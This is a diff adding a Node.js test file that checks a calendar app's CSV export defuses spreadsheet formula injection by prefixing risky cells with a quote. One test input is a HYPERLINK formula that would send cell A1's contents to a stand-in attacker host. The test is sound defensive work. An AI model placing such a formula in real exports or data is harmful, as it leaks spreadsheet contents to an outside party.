@@ -1,0 +1,27 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { neutraliseCsvCell, toCsv } from '../../web/src/lib/calendar.js';
+
+/** The team-hours export is the only CSV Tandem writes (issue 37): no cell may start a formula. */
+describe('CSV cells cannot start a spreadsheet formula', () => {
+  it('prefixes a member named =HYPERLINK(...) with a single quote, quoted as one field', () => {
+    const name = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+    const csv = toCsv([
+      ['Name', 'Mon'],
+      [name, 7.5],
+    ]);
+    const [, row] = csv.split('\r\n');
+    assert.equal(row, `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",7.5`);
+  });
+
+  it('defuses every formula lead: =, +, -, @, tab and carriage return; leaves other text and numbers', () => {
+    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
+      assert.equal(neutraliseCsvCell(`${lead}1+1`), `'${lead}1+1`, JSON.stringify(lead));
+    }
+    assert.equal(neutraliseCsvCell('Ada Lovelace'), 'Ada Lovelace');
+    assert.equal(neutraliseCsvCell(' =not first'), ' =not first');
+    assert.equal(neutraliseCsvCell(-2), '-2');
+    assert.equal(neutraliseCsvCell(0), '0');
+    assert.equal(toCsv([['@SUM(A1)', '+49 30', 'x']]), "'@SUM(A1),'+49 30,x\r\n");
+  });
+});
